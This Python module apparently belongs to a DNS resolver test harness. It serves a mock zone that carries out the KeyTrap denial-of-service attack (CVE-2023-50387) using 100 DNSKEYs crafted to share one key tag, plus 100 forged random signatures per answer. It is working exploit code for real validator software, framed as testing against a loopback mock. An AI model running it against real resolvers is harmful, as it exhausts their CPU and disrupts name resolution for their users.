"""A zone whose keys all have one tag, and whose answers have as many signatures that no key made (KeyTrap, CVE-2023-50387):
who tries them all verifies ten thousand."""
import hashlib
import os
import struct
import time

import dns.dnssec
import dns.name
import dns.rdata
import dns.rdatatype
import dns.rrset
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from attacks import Attack, at
from hostile import records

ZONE, ADDRESS = "keytrap.mock.", "127.66.30.1"
KEYS = SIGNATURES = 100
TTL, ALGORITHM, DAY = 300, 13, 86400
FLAG_ZONE, FLAG_REVOKED, FLAG_ENTRY = 0x0100, 0x0080, 0x0001


def public_octets(private):
    point = private.public_key().public_bytes(serialization.Encoding.X962,
                                              serialization.PublicFormat.UncompressedPoint)
    return point[1:]


def dnskey(flags, key):
    return dns.rdata.from_wire("IN", "DNSKEY", struct.pack("!HBB", flags, 3, ALGORITHM) + key, 0, 4 + len(key))


def colliding(tag):
    """A key with that tag: the tag is a sum, in which most bits of the flags mean nothing else."""
    while True:
        key = public_octets(ec.generate_private_key(ec.SECP256R1()))
        missing = tag - dns.dnssec.key_id(dnskey(0, key))
        for flags in ((missing + carry) % 0x10000 for carry in (-1, 0, 1)):
            if flags & FLAG_ZONE and not flags & FLAG_REVOKED and dns.dnssec.key_id(dnskey(flags, key)) == tag:
                return dnskey(flags, key)


def sign(private, data):
    r, s = decode_dss_signature(private.sign(data, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def rrsig(covered, tag, make, rrset=()):
    """A signature of the records of the zone's apex, or of a name below it (RFC 4034 3.1.8.1)."""
    owner, rdtype, now = dns.name.from_text(ZONE), dns.rdatatype.from_text(covered), int(time.time())
    labels = len(owner) - 1 if rrset else len(owner)
    head = struct.pack("!HBBIIIH", rdtype, ALGORITHM, labels, TTL, now + DAY, now - DAY, tag) + owner.to_wire()
    data = head
    for rdata in sorted(item.to_wire() for item in rrset):
        data += owner.to_wire() + struct.pack("!HHIH", rdtype, 1, TTL, len(rdata)) + rdata
    wire = head + make(data)
    return dns.rdata.from_wire("IN", "RRSIG", wire, 0, len(wire))


class Keytrap(Attack):
    """`anchor` is the DS record to trust."""

    def __init__(self):
        private = ec.generate_private_key(ec.SECP256R1())
        key = dnskey(FLAG_ZONE | FLAG_ENTRY, public_octets(private))
        tag = dns.dnssec.key_id(key)
        self.tag = (tag + 0x1234) % 0x10000  # of all others
        self.keys = dns.rrset.from_rdata_list(ZONE, TTL, [key] + [colliding(self.tag) for _ in range(KEYS)])
        digest = hashlib.sha256(dns.name.from_text(ZONE).to_wire() + key.to_wire()).hexdigest()
        self.anchor = f"{ZONE} DS {tag} {ALGORITHM} 2 {digest}"
        self.key_signature = rrsig("DNSKEY", tag, lambda data: sign(private, data), self.keys)
        super().__init__(f"www.{ZONE}", {ZONE: at(ZONE, ADDRESS)}, {ADDRESS: self.script})

    def script(self, q):
        if q.transport == "udp":
            return q.cut()
        if q.rdtype == "DNSKEY":
            return q.answer(self.keys, dns.rrset.from_rdata(ZONE, TTL, self.key_signature))
        if q.text == ZONE:
            return q.nothing(ZONE)
        forged = [rrsig(q.rdtype, self.tag, lambda data: os.urandom(64)) for _ in range(SIGNATURES)]
        return q.answer(records(q.text, "A", "198.18.9.1"), dns.rrset.from_rdata_list(q.text, TTL, forged))
